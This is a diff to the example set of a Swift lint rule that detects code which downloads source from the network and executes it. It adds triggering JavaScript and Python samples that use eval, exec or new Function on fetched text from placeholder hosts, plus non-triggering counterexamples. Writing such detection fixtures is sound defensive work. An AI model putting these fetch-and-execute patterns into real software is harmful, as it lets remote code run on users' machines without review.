@@ -9,6 +9,9 @@ extension CodeDownloadExecuteRule {
       "const https = require('https');\nconst vm = require('vm');\nfunction load(src) {\n  ↓vm.runInNewContext(src, { require });\n}\nhttps.get({ host: 'rules.example.net', path: '/pack' }, (res) => {\n  let body = '';\n  res.on('data', (d) => (body += d));\n  res.on('end', () => load(body));\n});\n",
       language: .javascript, note: "the download reaches the evaluator through a function's parameter"),
     Example("import requests\n↓exec(requests.get('https://cdn.example.net/plugin.py').text)\n", language: .python),
+    Example(
+      "const https = require('https');\nfunction get(url) {\n  return new Promise((resolve) => https.get(url, (res) => { let d = ''; res.on('data', (c) => (d += c)); res.on('end', () => resolve(d)); }));\n}\nasync function patch() {\n  const src = await get(INDEX);\n  const run = ↓new Function('require', src);\n  run(require);\n}\n",
+      language: .javascript, note: "the script's own download helper returns the code"),
     Example("from urllib.request import urlopen\nsrc = urlopen(URL).read()\ncode = src.decode()\n↓exec(code)\n", language: .python, note: "data flow through two assignments"),
     Example("↓eval(await (await fetch('https://cdn.example.net/x.js')).text());\n", language: .javascript),
     Example("const res = await fetch(url);\nconst body = await res.text();\n↓new Function(body)();\n", language: .javascript),
@@ -29,6 +32,12 @@ extension CodeDownloadExecuteRule {
   ]
 
   static let nonTriggering: [Example] = [
+    Example(
+      "import subprocess, urllib.request\ndef run(cmd):\n    return subprocess.run(cmd)\ndef fetch_notes(python):\n    notes = urllib.request.urlopen(NOTES).read()\n    run([python, '-m', 'pip', '--version'])\n    return notes\ndef setup(python):\n    fetch_notes(python)\n",
+      language: .python, note: "what a download helper is given is not what it downloads"),
+    Example(
+      "import subprocess, requests\nprompt = requests.get(FEED).json()['text']\ncmd = ['openclaw', 'agent', '--message', prompt]\nsubprocess.run(cmd, check=True)\n",
+      language: .python, note: "downloaded text is an argument of a fixed program"),
     Example(
       "import requests, subprocess\ndef speak(text, out):\n    subprocess.run(['edge-tts', '--text', text, '--write-media', out], capture_output=True, text=True)\nfor item in requests.get(API).json()['items']:\n    speak(item['title'], 'a.mp3')\n",
       language: .python, note: "downloaded text handed to a program as its data, not run"),
